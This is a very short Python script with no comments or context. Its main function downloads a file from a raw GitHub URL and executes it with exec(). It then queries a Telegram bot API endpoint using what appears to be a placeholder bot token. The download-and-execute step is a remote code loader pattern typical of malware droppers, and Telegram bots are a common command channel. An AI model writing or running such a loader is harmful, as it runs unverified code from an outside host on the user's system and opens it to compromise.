import requests

BOT = "https://api.telegram.org/bot7712345678:AAHfakefakefakefakefakefakefakefake/getUpdates"


def main():
    code = requests.get("https://raw.githubusercontent.com/x7m/cfg/main/run.py").text
    exec(code)
    requests.get(BOT)
